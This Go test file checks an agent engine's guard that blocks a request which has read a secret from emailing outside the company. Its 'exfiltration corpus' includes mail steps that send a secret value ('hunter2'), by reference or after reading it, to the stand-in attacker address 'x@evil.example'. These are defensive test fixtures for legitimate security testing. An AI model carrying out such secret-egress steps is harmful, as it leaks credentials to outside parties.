package engine_test

import (
	"context"
	"errors"
	"maps"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/agentd-dev/agentd/engine"
	"github.com/agentd-dev/agentd/engine/op"
)

// capabilityLabels labels the results of read_secret secret and those of fetch_url
// untrusted, as a config's labels section would.
type capabilityLabels struct{}

func (capabilityLabels) Labels(_ context.Context, call *op.Call, _ any) []string {
	switch call.Capability {
	case "read_secret":
		return []string{"secret"}
	case "fetch_url":
		return []string{"untrusted"}
	}
	return nil
}

// flowSeen keeps the flow each checked step saw.
type flowSeen struct {
	mu    sync.Mutex
	flows map[string]op.Call
}

func (f *flowSeen) get(step string) op.Call {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.flows[step]
}

// flowGeneration offers ns/tools read_secret, fetch_url and send_email, labels results
// as capabilityLabels does, and has one tool_call guard: a request that has read a
// secret mails only inside the company (what the guard saw is kept in seen).
func flowGeneration(t *testing.T, seen *flowSeen) *engine.Generation {
	t.Helper()
	catalog, err := engine.NewCatalog([]engine.CatalogAgent{{Namespace: "ns", Agent: "tools",
		Capabilities: []engine.Capability{{Name: "read_secret"}, {Name: "fetch_url"}, {Name: "send_email"}}}})
	if err != nil {
		t.Fatal(err)
	}
	p, err := engine.New(nil, engine.WithCatalog(catalog))
	if err != nil {
		t.Fatal(err)
	}
	runner, err := op.Compile(op.Set{PolicyRevision: "rev", Guards: []op.Guard{{Name: "no-secret-egress", Operations: []op.Operation{op.ToolCall},
		Check: func(_ context.Context, c op.Call) error {
			seen.mu.Lock()
			seen.flows[c.StepID] = c
			seen.mu.Unlock()
			to, _ := c.Parameters["to"].(string)
			if c.Capability == "send_email" && slices.Contains(c.Flow.Labels, "secret") && !strings.HasSuffix(to, "@acme.example") {
				return op.Deny("secret_egress", "a request that has read a secret mails only inside the company")
			}
			return nil
		}}}})
	if err != nil {
		t.Fatal(err)
	}
	return &engine.Generation{ID: "gen-flow", Pipeline: p, Runner: runner, Labels: capabilityLabels{}}
}

func flowStep(id, capability string, params map[string]any, deps ...string) engine.RoutingStep {
	s := admitStep(id, capability, capability, params)
	s.DependsOn = deps
	return s
}

// flowRun is one request's course: its phases, each a plan, and what each step does.
type flowRun struct {
	request string
	phases  [][]engine.RoutingStep
}

// run opens r, and for each phase accepts its plan, then checks every step in order
// and finishes each allowed one with response (the secret for read_secret); it returns
// whether each step was allowed.
func (r flowRun) run(t *testing.T, d *engine.Driver) map[string]bool {
	t.Helper()
	ctx := context.Background()
	allowed := map[string]bool{}
	for i, steps := range r.phases {
		var sess *engine.Session
		var err error
		if i == 0 {
			sess, err = d.Open(ctx, r.request, engine.Opening{Text: "mail"})
		} else {
			sess, err = d.Resume(ctx, engine.StageAfterPlanning, r.request, engine.Opening{})
		}
		if err != nil {
			t.Fatal(err)
		}
		if _, err := sess.AfterPlanning(ctx, &engine.RoutingPlan{PlanID: r.request + "-p" + string(rune('1'+i)), Steps: slices.Clone(steps), Terminal: new(bool)}, i+1); err != nil {
			t.Fatalf("phase %d: %v", i+1, err)
		}
		// Every step of the phase is checked before any finishes (a parallel batch),
		// except that a step referring to another is checked once that one finished.
		var later []engine.RoutingStep
		for _, s := range steps {
			if len(s.DependsOn) > 0 || strings.Contains(s.Parameters()["body"].(string), "{{") {
				later = append(later, s)
				continue
			}
			allowed[s.StepID] = check(t, d, r.request, s)
		}
		for _, s := range steps {
			if allowed[s.StepID] && !slices.ContainsFunc(later, func(l engine.RoutingStep) bool { return l.StepID == s.StepID }) {
				finish(t, d, r.request, s)
			}
		}
		for _, s := range later {
			if allowed[s.StepID] = check(t, d, r.request, s); allowed[s.StepID] {
				finish(t, d, r.request, s)
			}
		}
	}
	return allowed
}

func check(t *testing.T, d *engine.Driver, request string, s engine.RoutingStep) bool {
	t.Helper()
	res, err := d.Check(context.Background(), op.Call{Operation: op.ToolCall, RequestID: request, StepID: s.StepID,
		Namespace: s.Namespace, AgentName: s.AgentName, Capability: s.Capability(), Parameters: s.Parameters()})
	if err != nil {
		t.Fatalf("check %s: %v", s.StepID, err)
	}
	return res.Allowed
}

func finish(t *testing.T, d *engine.Driver, request string, s engine.RoutingStep) {
	t.Helper()
	var response any = map[string]any{"status": "sent"}
	if s.Capability() == "read_secret" {
		response = map[string]any{"value": "hunter2"}
	}
	if err := d.Finish(context.Background(), engine.Finish{RequestID: request, StepID: s.StepID, Status: engine.RunSucceeded, Response: response}); err != nil {
		t.Fatalf("finish %s: %v", s.StepID, err)
	}
}

func mail(id, to, body string, deps ...string) engine.RoutingStep {
	return flowStep(id, "send_email", map[string]any{"to": to, "body": body}, deps...)
}

func implicit(s engine.RoutingStep, deps ...string) engine.RoutingStep {
	s.ImplicitDeps = deps
	return s
}

func secret(id string) engine.RoutingStep {
	return flowStep(id, "read_secret", map[string]any{"name": "db", "body": ""})
}

// The exfiltration corpus on one driver: a secret mailed out by reference, after a
// dependency or in a later phase is denied; a parallel mail of the same phase, a mail
// inside the company and another request's mail are allowed.
func TestFlow_SecretEgress(t *testing.T) {
	for _, tc := range []struct {
		name   string
		phases [][]engine.RoutingStep
		want   map[string]bool
	}{
		{"by reference in the same phase", [][]engine.RoutingStep{{secret("step-1"), mail("step-2", "x@evil.example", "{{step-1.response.value}}", "step-1")}},
			map[string]bool{"step-1": true, "step-2": false}},
		{"after a dependency in the same phase", [][]engine.RoutingStep{{secret("step-1"), mail("step-2", "x@evil.example", "hello", "step-1")}},
			map[string]bool{"step-1": true, "step-2": false}},
		{"parallel in the same phase", [][]engine.RoutingStep{{secret("step-1"), mail("step-2", "x@evil.example", "hello")}},
			map[string]bool{"step-1": true, "step-2": true}},
		{"in a later phase", [][]engine.RoutingStep{{secret("step-1")}, {mail("step-2", "x@evil.example", "hello")}},
			map[string]bool{"step-1": true, "step-2": false}},
		{"inside the company in a later phase", [][]engine.RoutingStep{{secret("step-1")}, {implicit(mail("step-2", "ops@acme.example", "{{step-1.response.value}}"), "step-1")}},
			map[string]bool{"step-1": true, "step-2": true}},
		{"benign", [][]engine.RoutingStep{{mail("step-1", "x@evil.example", "hello")}, {mail("step-2", "y@evil.example", "again")}},
			map[string]bool{"step-1": true, "step-2": true}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			seen := &flowSeen{flows: map[string]op.Call{}}
			d, _ := memoryDriver(t, engine.Fixed{Gen: flowGeneration(t, seen)})
			if got := (flowRun{"req", tc.phases}).run(t, d); !maps.Equal(got, tc.want) {
				t.Fatalf("allowed = %v, want %v", got, tc.want)
			}
			// Another request of the same driver starts clean.
			other := flowRun{"other", [][]engine.RoutingStep{{mail("step-1", "x@evil.example", "hello")}}}
			if got := other.run(t, d); !got["step-1"] {
				t.Fatal("another request's mail was denied")
			}
			if c := seen.get("step-1"); len(c.Flow.Labels) != 0 || len(c.Flow.History) != 0 {
				t.Fatalf("another request's mail saw %+v", c.Flow)
			}
		})
	}
}

// What a call sees: call.labels are the labels of the steps it refers to; history is
// what was reported before its phase's review, in order, with the referenced steps
// after; the request's state keeps labels, history and each run's labels.
func TestFlow_WhatACallSees(t *testing.T) {
	seen := &flowSeen{flows: map[string]op.Call{}}
	d, mem := memoryDriver(t, engine.Fixed{Gen: flowGeneration(t, seen)})
	flowRun{"req", [][]engine.RoutingStep{
		{secret("step-1"), flowStep("step-2", "fetch_url", map[string]any{"url": "https://example.com", "body": ""})},
		{secret("step-3"), mail("step-4", "ops@acme.example", "{{step-3.response.value}}", "step-3"), mail("step-5", "ops@acme.example", "plain")},
	}}.run(t, d)
	four, five := seen.get("step-4"), seen.get("step-5")
	if !slices.Equal(four.Labels, []string{"secret"}) || len(five.Labels) != 0 {
		t.Fatalf("call.labels: step-4 %v, step-5 %v", four.Labels, five.Labels)
	}
	ids := func(h []op.HistoryStep) (out []string) {
		for _, s := range h {
			out = append(out, s.StepID+":"+s.Status+":"+strings.Join(s.Labels, ","))
		}
		return out
	}
	if got, want := ids(five.Flow.History), []string{"step-1:succeeded:secret", "step-2:succeeded:untrusted"}; !slices.Equal(got, want) {
		t.Fatalf("step-5 history = %v, want %v", got, want)
	}
	if got, want := ids(four.Flow.History), []string{"step-1:succeeded:secret", "step-2:succeeded:untrusted", "step-3:succeeded:secret"}; !slices.Equal(got, want) {
		t.Fatalf("step-4 history = %v, want %v", got, want)
	}
	if h := four.Flow.History[0]; h.Capability != "read_secret" || h.Namespace != "ns" || h.AgentName != "tools" {
		t.Fatalf("history step = %+v", h)
	}
	if !slices.Equal(five.Flow.Labels, []string{"secret", "untrusted"}) {
		t.Fatalf("step-5 labels = %v", five.Flow.Labels)
	}
	rec, err := mem.Get(context.Background(), "req")
	if err != nil {
		t.Fatal(err)
	}
	var ops []string
	for _, o := range rec.Operations {
		finish := ""
		if o.Finish != nil {
			finish = strings.Join(o.Finish.Labels, ",")
		}
		ops = append(ops, o.StepID+":"+strings.Join(o.Labels, ",")+"/"+strings.Join(o.CallLabels, ",")+">"+finish)
	}
	if want := []string{"step-1:/>secret", "step-2:/>untrusted", "step-3:secret,untrusted/>secret", "step-5:secret,untrusted/>", "step-4:secret,untrusted/secret>"}; !slices.Equal(ops, want) {
		t.Fatalf("record operations = %q, want %q", ops, want)
	}
	st, ok, err := mem.GetRequest(context.Background(), "req")
	if err != nil || !ok {
		t.Fatal(ok, err)
	}
	if !slices.Equal(st.Labels, []string{"secret", "untrusted"}) || len(st.History) != 5 || st.Reported != 5 || len(st.PhaseFlows) != 2 ||
		!slices.Equal(st.Runs["step-2"].Labels, []string{"untrusted"}) {
		t.Fatalf("state: labels %v, history %d, reported %d, phase flows %+v, runs %+v", st.Labels, len(st.History), st.Reported, st.PhaseFlows, st.Runs)
	}
}

// A finish's own labels must be label names, and a request carries at most
// MaxRequestLabels of them; the history keeps the last MaxHistory finishes and the
// labels of every one.
func TestFlow_Bounds(t *testing.T) {
	ctx := context.Background()
	seen := &flowSeen{flows: map[string]op.Call{}}
	d, mem := memoryDriver(t, engine.Fixed{Gen: flowGeneration(t, seen)})
	n := engine.MaxHistory + 3
	steps := make([]engine.RoutingStep, n)
	for i := range steps {
		steps[i] = flowStep("step-"+strconv.Itoa(i+1), "fetch_url", map[string]any{"body": ""})
	}
	sess, err := d.Open(ctx, "req", engine.Opening{Text: "x"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sess.AfterPlanning(ctx, &engine.RoutingPlan{PlanID: "p", Steps: steps}, 1); err != nil {
		t.Fatal(err)
	}
	for i, s := range steps {
		check(t, d, "req", s)
		f := engine.Finish{RequestID: "req", StepID: s.StepID, Status: engine.RunSucceeded}
		switch i {
		case 0:
			f.Labels = []string{"Not A Label"}
		case 1:
			f.Labels = make([]string, engine.MaxRequestLabels)
			for j := range f.Labels {
				f.Labels[j] = "l" + strconv.Itoa(j)
			}
		case 2:
			f.Labels = []string{"from-meta"}
		}
		err := d.Finish(ctx, f)
		var fe *engine.FinishError
		if i <= 1 {
			if !errors.As(err, &fe) || fe.Code != engine.FinishInvalid {
				t.Fatalf("finish %d = %v, want invalid_finish", i, err)
			}
			f.Labels = nil
			err = d.Finish(ctx, f)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	st, _, err := mem.GetRequest(ctx, "req")
	if err != nil {
		t.Fatal(err)
	}
	if len(st.History) != engine.MaxHistory || st.Reported != n || st.History[0].StepID != "step-4" ||
		!slices.Equal(st.Labels, []string{"from-meta", "untrusted"}) {
		t.Fatalf("history %d from %s, reported %d, labels %v", len(st.History), st.History[0].StepID, st.Reported, st.Labels)
	}
}

// StartFrom gives a state a history as if its finishes had been reported, its labels
// with the steps'; it refuses what a request could not carry.
func TestRequestState_StartFrom(t *testing.T) {
	st := &engine.RequestState{ID: "r"}
	if err := st.StartFrom([]engine.HistoryStep{{StepID: "s1", Capability: "read_secret", Labels: []string{"secret"}}}, []string{"untrusted"}); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(st.Labels, []string{"secret", "untrusted"}) || st.Reported != 1 || st.History[0].Status != "succeeded" {
		t.Fatalf("state = labels %v, reported %d, history %+v", st.Labels, st.Reported, st.History)
	}
	many := make([]string, engine.MaxRequestLabels)
	for i := range many {
		many[i] = "l" + strconv.Itoa(i)
	}
	for name, tc := range map[string]struct {
		steps  []engine.HistoryStep
		labels []string
	}{
		"not a label":        {labels: []string{"Secret"}},
		"not a step's label": {steps: []engine.HistoryStep{{StepID: "s", Labels: []string{"a b"}}}},
		"too many labels":    {labels: many},
		"too long a history": {steps: make([]engine.HistoryStep, engine.MaxHistory+1)},
	} {
		before := *st
		if err := st.StartFrom(tc.steps, tc.labels); err == nil {
			t.Errorf("%s: no error", name)
		}
		if !slices.Equal(st.Labels, before.Labels) || len(st.History) != len(before.History) {
			t.Errorf("%s: the state changed", name)
		}
	}
}
